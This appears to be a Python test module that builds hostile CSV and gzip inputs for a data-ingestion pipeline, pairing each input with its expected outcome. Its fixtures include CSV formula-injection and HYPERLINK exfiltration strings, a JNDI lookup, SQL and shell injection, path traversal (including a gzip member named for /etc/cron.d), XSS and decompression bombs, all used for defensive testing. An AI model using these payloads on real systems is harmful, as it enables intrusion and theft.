"""Hostile delimited text, plain and compressed.

Belongs here: bytes of csv and csv.gz and their fate. Each text that is not about size is delivered
twice, as it is and compressed. Does not belong here: names and places of files (luoghi.py).
"""

import bz2
import gzip
import io
import lzma
import random
import zipfile
import zlib
from collections.abc import Iterator

from tests.extracts.materiale import csv, csv_gz, riga_buona, xlsx
from tests.ostili.caso import (
    RIFIUTATO,
    SEGRETO,
    STUDI,
    TESTA,
    Caso,
    Contenuto,
    Esito,
    dati,
    file,
    firma,
)

MEGA = 1 << 20
Testo = tuple[str, str | bytes, Esito]
RIGA = f"@1;{SEGRETO};SOSPESO\n"
BUONO = TESTA + RIGA
UNA = dati(1)
UTF_16 = "utf-16-con-segno"
"""The case of a text in UTF-16 with its mark, encoded once it has keys of its own."""


def _codifiche() -> Iterator[Testo]:
    """Encodings that the contract does not have, and bytes that are of none."""
    yield UTF_16, BUONO, UNA
    for codifica in ("utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "cp037", "cp500"):
        yield codifica, BUONO.replace("@", "x").encode(codifica), RIFIUTATO
    for byte in (0x81, 0x8D, 0x8F, 0x90, 0x9D):
        yield f"cp1252-{byte:02x}", TESTA.encode() + b"@1;a%c;SOSPESO\n" % byte, RIFIUTATO
    testa = TESTA.encode()
    yield "utf7", TESTA + "@1;+AGEAYg-;SOSPESO\n", UNA
    yield "utf8-tronco", testa + b"@1;citt\xc3;SOSPESO\n", UNA
    yield "utf8-tronco-in-coda", testa + b"@1;citta;SOSPESO\n@2;citt\xc3", dati(1, 1)
    yield "utf8-troppo-lungo", testa + b"@1;\xc0\xaf;SOSPESO\n", UNA
    yield "utf8-surrogato", testa + b"@1;\xed\xa0\xa0;SOSPESO\n", UNA
    yield "utf8-cinque-byte", testa + b"@1;\xf8\x88\x80\x80\x80;SOSPESO\n", UNA
    yield "utf8-e-cp1252", testa + "@1;città;SOSPESO\n".encode() + b"@2;citt\xe0;SOSPESO\n", dati(2)
    yield "bom-doppio", b"\xef\xbb\xbf" * 2 + BUONO.encode(), UNA
    yield "bom-e-cp1252", b"\xef\xbb\xbf" + testa + b"@1;citt\xe0;SOSPESO\n", RIFIUTATO
    yield "bom-in-mezzo", TESTA + "@1;\ufeffa;SOSPESO\n\ufeff@2;b;SOSPESO\n", dati(2)
    yield "bom-nella-testata", "id_studio;\ufefftitolo;stato\n@1;a;SOSPESO\n", UNA
    yield "nul-in-testa", b"\x00" + BUONO.encode(), RIFIUTATO
    yield "nul-in-mezzo", TESTA + "@1;a\x00b;SOSPESO\n", RIFIUTATO
    yield "nul-in-coda", BUONO.encode() + b"\x00" * 512, RIFIUTATO
    yield "solo-nul", b"\x00" * 4096, RIFIUTATO
    yield "zalgo", TESTA + "@1;z" + "\u0301\u0489" * 500 + ";SOSPESO\n", UNA
    yield "non-caratteri", TESTA + "@1;\ufffe\uffff\U0010ffff\ue000;SOSPESO\n", UNA
    yield "da-destra", TESTA + "@1;\u202egpj.exe\u2066;SOSPESO\n", UNA
    yield "emoji", TESTA + "@1;👩‍👩‍👧🏴‍☠️;SOSPESO\n", UNA


def _righe() -> Iterator[Testo]:
    """Line ends: only LF ends a line, but in a file that has none."""
    yield "fine-mista", TESTA + "@1;a;SOSPESO\r\n@2;b;SOSPESO\n@3;c;SOSPESO\r\n", dati(3)
    yield "solo-cr", BUONO.replace("\n", "\r"), UNA
    yield "cr-in-un-campo", TESTA + "@1;a\rb;SOSPESO\n", UNA
    yield "cr-cr-lf", BUONO.replace("\n", "\r\r\n"), UNA
    yield "lf-cr", BUONO.replace("\n", "\n\r"), UNA
    yield "senza-fine", BUONO.rstrip("\n"), UNA
    yield (
        "separatori-unicode",
        TESTA + "@1;a\u2028b\u2029c\x85d\x0be\x0cf\x1c\x1d\x1eg;SOSPESO\n",
        UNA,
    )
    yield "control-z", BUONO + "\x1a", dati(1, 1)
    yield "mille-bianche", TESTA + "\n" * 1000 + RIGA + ";;\n" * 1000, UNA
    yield "solo-bianche", " \n;;\n\t\n,,\n", RIFIUTATO


def _virgolette() -> Iterator[Testo]:
    yield "dispari", TESTA + f'@1;"{SEGRETO};SOSPESO\n@2;b;SOSPESO\n', RIFIUTATO
    yield "dispari-in-testata", '"' + BUONO, RIFIUTATO
    yield "dispari-in-coda", BUONO + '"', RIFIUTATO
    yield "dispari-con-tre", TESTA + f'@1;"""{SEGRETO};SOSPESO\n', RIFIUTATO
    yield "pari-a-cavallo", TESTA + '@1;"a;SOSPESO\n@2;"b;SOSPESO\n', dati(0, 2)
    yield "in-mezzo", TESTA + '@1;a "b" c;SOSPESO\n', UNA
    yield "dopo-le-chiuse", TESTA + '@1;"a"b";SOSPESO\n', dati(0, 1)
    yield "solo-virgolette", TESTA + '"";"";""\n', dati(0, 1)
    yield "barra-inversa", TESTA + '@1;"a\\";SOSPESO\n', UNA
    yield "apici", TESTA + "'@1';'a;b';'SOSPESO'\n", dati(0, 1)
    yield "mille-righe-in-una", TESTA + '@1;"' + "a\n" * 1000 + '";SOSPESO\n', UNA
    yield "cr-fra-virgolette", TESTA + '@1;"a\rb\r\nc";SOSPESO\n', UNA
    yield "tutto-fra-virgolette", '"id_studio;titolo;stato"\n"@1;a;SOSPESO"\n', RIFIUTATO


def _testate() -> Iterator[Testo]:
    yield "vuoto", "", RIFIUTATO
    yield "solo-bom", b"\xef\xbb\xbf", RIFIUTATO
    yield "solo-testata", TESTA, dati(0)
    # Of an extract without people the reason quotes the line that was taken for the header.
    yield "senza-testata", "@1;a;SOSPESO\n", RIFIUTATO
    yield "testata-due-volte", TESTA + TESTA + RIGA, dati(1, 1)
    yield "manca-una-colonna", f"id_studio;titolo\n@1;{SEGRETO}\n", RIFIUTATO
    yield "colonna-doppia", f"id_studio;titolo;stato;TÍTOLO\n@1;{SEGRETO};SOSPESO;b\n", RIFIUTATO
    yield "separatore-barra", BUONO.replace(";", "|"), RIFIUTATO
    yield "separatore-spazio", BUONO.replace(";", " "), RIFIUTATO
    yield "sep-di-excel", "sep=;\n" + BUONO, UNA
    yield "titolo-sopra", "Elenco degli studi\n" + BUONO, UNA
    yield "mille-volte-titolo", "titolo;" * 1000 + "id_studio;stato\n", RIFIUTATO
    yield (
        "diecimila-ignote",
        TESTA[:-1] + ";c" * 10_000 + "\n@1;a;SOSPESO" + ";" * 10_000 + "\n",
        UNA,
    )
    yield "testata-html", "<script>alert(1)</script>;" + BUONO.replace("\n", "\nx;")[:-2], UNA
    yield "testata-sql", "'; drop table fonti.isr_studi; --,titolo\n", RIFIUTATO
    yield "testata-formula", "=cmd|' /C calc'!A0;" + BUONO.replace("\n", "\nx;")[:-2], UNA
    yield "testata-con-a-capo", '"a\nb\x1b[2J";' + BUONO.replace("\n", "\nx;")[:-2], UNA


def _altro_formato() -> Iterator[Testo]:
    """Files of other kinds under a name that promises text."""
    archivio = io.BytesIO()
    with zipfile.ZipFile(archivio, "w") as zip_:
        zip_.writestr("studi.csv", BUONO)
    casuali = random.Random(20201231)
    yield "json", '[{"id_studio": "1", "titolo": "a", "stato": "SOSPESO"}]', RIFIUTATO
    yield "html", "<html><body><table><tr><td>id_studio</td></tr></table></body></html>", RIFIUTATO
    yield "xml", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>", RIFIUTATO
    yield "pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n\x00", RIFIUTATO
    yield "png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64), RIFIUTATO
    yield "zip", archivio.getvalue(), RIFIUTATO
    yield "xlsx", xlsx([["id_studio", "titolo", "stato"]]), RIFIUTATO
    yield "parquet", b"PAR1" + bytes(64) + b"PAR1", RIFIUTATO
    yield "sqlite", b"SQLite format 3\x00" + bytes(84), RIFIUTATO
    yield "rtf", "{\\rtf1\\ansi{\\fonttbl\\f0 Arial;}}", RIFIUTATO
    for numero in range(4):
        yield f"a-caso-{numero}", casuali.randbytes(2000), RIFIUTATO


INERTI = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"clic")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "%0A=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></table><h1>ciao</h1>",
    "&lt;b&gt;&#x3C;i&#x3E;&amp;",
    "javascript:alert(1)",
    "L'Aquila",
    "'; drop table fonti.isr_studi; --",
    "' or 1=1 --",
    "$(touch /tmp/ostile)`touch /tmp/ostile`",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\calc.exe",
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
    "${jndi:ldap://x.example/a}",
    "%s%s%s%n%x",
    "{0.__class__.__mro__}",
    "\x1b]0;titolo\x07\x1b[31m",
    "[bold red]ciao[/] [link=http://x.example]qui[/link]",
    "| a | b |\\n| --- | --- |",
    "a" * 100_000,
)
"""Texts that some reader somewhere would run, follow or draw. They hold no separator."""


def _valori() -> Iterator[Testo]:
    for numero, testo in enumerate(INERTI):
        if ";" in testo or '"' in testo:
            testo = '"' + testo.replace('"', '""') + '"'
        yield f"inerte-{numero}", TESTA + f"@1;{testo};SOSPESO\n", UNA
    yield "spazi-insoliti", TESTA + "@1;\u00a0\u2003\u3000;SOSPESO\n", dati(0, 1)
    yield "spazio-invisibile", TESTA + "@1;\u200b;SOSPESO\n", dati(0, 1)
    yield "mille-campi", BUONO + "a;" * 1000 + "\n", dati(1, 1)
    yield "campi-di-meno", BUONO + f"{SEGRETO}\n;{SEGRETO}\n", dati(1, 2)
    yield "stesse-chiavi", BUONO + RIGA * 50, dati(1, 50)
    yield "chiavi-in-conflitto", BUONO + f"@1;{SEGRETO} bis;SOSPESO\n", dati(0, 2)


_COSTI = "codice_processo;voce;importo\n"
_NON_IMPORTI = (
    "1e5",
    "0x10",
    "١٢٣",
    "１２３",
    "NaN",
    "Infinity",
    "1_000",
    "--5",
    "+5",
    "12.5",
    "1,234.56",
    "€€5",
    "5 $",
    "5%",
    "9" * 17 + ",00",
    "9" * 400,
    "1" + ".000" * 60,
    "0,005",
    "=5",
    "5-",
    "(5,00)",
    "1 000,00",
    "1'000,00",
)
_NON_DATE = (
    "31/02/2020",
    "29/02/2019",
    "00/00/0000",
    "99/99/9999",
    "0000-01-01",
    "2020-13-01",
    "31-12-2020",
    "1/1/2020",
    "20201231",
    "43831",
    "2020-12-31T00:00:00Z",
    "２０２０-01-01",
    "-2020-01-01",
    "12020-01-01",
    "31/12/2020 12:00",
    "ieri",
)


def _numeri_e_date() -> Iterator[Caso]:
    """Values that look like numbers or dates and are not: quarantine, never a guess."""
    righe = "".join(f"C1;COSTO_DIRETTO;{testo}\n" for testo in _NON_IMPORTI)
    buona = "C1;COSTO_DIRETTO;1,00\n"
    costi = "contabilita/costi_processo"
    for numero, testo in enumerate(_NON_IMPORTI):
        contenuto = (_COSTI + buona + f"C1;COSTO_DIRETTO;{testo}\n").encode()
        yield file(f"importo-{numero}", "csv", contenuto, dati(1, 1), costi)
    tutti = (_COSTI + righe).encode()
    yield file("importi", "csv.gz", csv_gz(tutti), dati(0, len(_NON_IMPORTI)), costi)
    testa = "id_studio;titolo;stato;data_pubblicazione\n"
    for numero, testo in enumerate(_NON_DATE):
        contenuto = firma(f"data-{numero}", testa + f"@1;a;SOSPESO;{testo}\n")
        yield file(f"data-{numero}", "csv", contenuto, dati(0, 1))


def _compressi() -> Iterator[Caso]:
    """What only a compressed file can get wrong."""

    def caso(nome: str, contenuto: Contenuto, esito: Esito) -> Caso:
        return file(nome, "csv.gz", contenuto, esito)

    def buono(nome: str) -> bytes:
        return csv_gz(firma(nome, BUONO))

    intero = buono("x")
    for tolti in (1, 4, 8, 12, 20, len(intero) - 12, len(intero) - 3):
        yield caso(f"tronco-{tolti}", intero[:-tolti], RIFIUTATO)
    yield caso("zero-byte", b"", RIFIUTATO)
    yield caso("di-niente", csv_gz(b""), RIFIUTATO)
    yield caso("crc-errato", intero[:-8] + b"\x00\x01\x02\x03" + intero[-4:], RIFIUTATO)
    yield caso("lunghezza-errata", intero[:-4] + b"\xff\xff\xff\xff", RIFIUTATO)
    yield caso("coda-estranea", intero + b"coda", RIFIUTATO)
    yield caso("coda-di-zeri", buono("coda-di-zeri") + bytes(64), UNA)
    concatenati = csv_gz(TESTA.encode()) + csv_gz(b"conc1;a;SOSPESO\n") + csv_gz(b"")
    yield caso("concatenati", concatenati, UNA)
    yield caso("concatenati-a-meta", csv_gz(b"id_studio;titolo;st") + csv_gz(b"ato\n"), dati(0))
    yield caso("secondo-guasto", csv_gz(BUONO.encode()) + intero[:-5], RIFIUTATO)
    yield caso("gz-di-gz", csv_gz(intero), RIFIUTATO)
    yield caso("testo-semplice", BUONO.encode(), RIFIUTATO)
    yield caso("zlib", zlib.compress(BUONO.encode()), RIFIUTATO)
    yield caso("bz2", bz2.compress(BUONO.encode()), RIFIUTATO)
    yield caso("xz", lzma.compress(BUONO.encode()), RIFIUTATO)
    yield caso("metodo-ignoto", intero[:2] + b"\x07" + intero[3:], RIFIUTATO)
    nome_ostile = io.BytesIO()
    with gzip.GzipFile("../../../etc/cron.d/pira", "wb", fileobj=nome_ostile, mtime=0) as dentro:
        dentro.write(firma("nome-ostile", BUONO))
    yield caso("nome-ostile", nome_ostile.getvalue(), UNA)
    for posto in (10, 14, 18, 22, 26):
        guasto = bytearray(intero)
        guasto[posto] ^= 0xFF
        yield caso(f"byte-{posto}", bytes(guasto), RIFIUTATO)


def _grandi() -> Iterator[Caso]:
    """What is small to deliver and huge to read, or huge altogether. No such file stays on disk."""
    yield file("riga-di-9-mb", "csv", lambda: _riga_lunga(9 * MEGA), RIFIUTATO, pesante=True)
    citata = '"' + "x" * (9 * MEGA) + '"'
    yield file(
        "campo-di-9-mb",
        "csv",
        lambda: (TESTA + f"@1;{citata};SOSPESO\n").encode(),
        RIFIUTATO,
        pesante=True,
    )
    yield file("riga-di-7-mb", "csv", lambda: _riga_lunga(7 * MEGA), UNA, pesante=True)
    yield file(
        "un-milione-di-colonne",
        "csv",
        lambda: TESTA.encode()[:-1] + b";c" * 1_000_000 + b"\n",
        RIFIUTATO,
        pesante=True,
    )
    yield file(
        "un-milione-di-titoli",
        "csv",
        lambda: b"id_studio;stato" + b";titolo" * 1_000_000 + b"\n",
        RIFIUTATO,
        pesante=True,
    )
    yield file(
        "sedicimila-colonne-per-cento-righe",
        "csv",
        lambda: _larga(16_000, 100),
        dati(100),
        pesante=True,
    )

    def gonfio(nome: str, contenuto: Contenuto) -> Caso:
        return file(nome, "csv.gz", contenuto, RIFIUTATO, pesante=True)

    def sedici(pezzo: bytes) -> bytes:
        return csv_gz(pezzo * (16 * MEGA // len(pezzo)))

    uguali = csv_gz(TESTA.encode() + b"uguali;b;SOSPESO\n" * 100_000)
    yield file("centomila-righe-uguali", "csv.gz", uguali, dati(1, 99_999), pesante=True)
    testa = csv_gz(TESTA.encode())
    yield gonfio("riga-di-1-gb", lambda: testa + sedici(b"x") * 64)
    yield gonfio("1-gb-di-nul", lambda: sedici(b"\x00") * 64)
    yield gonfio("1-gb-di-a-capo", lambda: testa + sedici(b"\n") * 64)
    yield gonfio("1-gb-di-righe-uguali", lambda: testa + sedici(b"a;b;SOSPESO\n") * 64)
    yield gonfio("1-gb-di-separatori", lambda: testa + sedici(b";" * 1023 + b"\n") * 64)
    yield gonfio("1-gb-di-virgolette", lambda: testa + sedici(b'"') * 64)
    yield gonfio("gz-di-gz-di-nul", lambda: csv_gz(sedici(b"\x00") * 64))


def _riga_lunga(byte: int) -> bytes:
    return TESTA.encode() + b"lunga" + str(byte).encode() + b";" + b"x" * byte + b";SOSPESO\n"


def _larga(colonne: int, righe: int) -> bytes:
    testa = TESTA.encode()[:-1] + b";c" * colonne + b"\n"
    coda = b";" * colonne + b"\n"
    return testa + b"".join(b"larga%d;a;SOSPESO%s" % (n, coda) for n in range(righe))


def _firmato(nome: str, testo: str | bytes) -> bytes:
    contenuto = firma(nome, testo)
    return contenuto.decode().encode("utf-16") if nome.startswith(UTF_16) else contenuto


def casi() -> list[Caso]:
    """Every case of delimited text."""
    trovati: list[Caso] = []
    famiglie = (_codifiche, _righe, _virgolette, _testate, _altro_formato, _valori)
    for famiglia in famiglie:
        for nome, testo, esito in famiglia():
            trovati.append(file(nome, "csv", _firmato(nome, testo), esito))
            compresso = csv_gz(_firmato(f"{nome}-gz", testo))
            trovati.append(file(f"{nome}-gz", "csv.gz", compresso, esito))
    buona = csv(STUDI, [riga_buona(STUDI, 0, id_studio="buona")])
    trovati.append(file("buono-in-mezzo", "csv", buona, UNA))
    return [*trovati, *_numeri_e_date(), *_compressi(), *_grandi()]
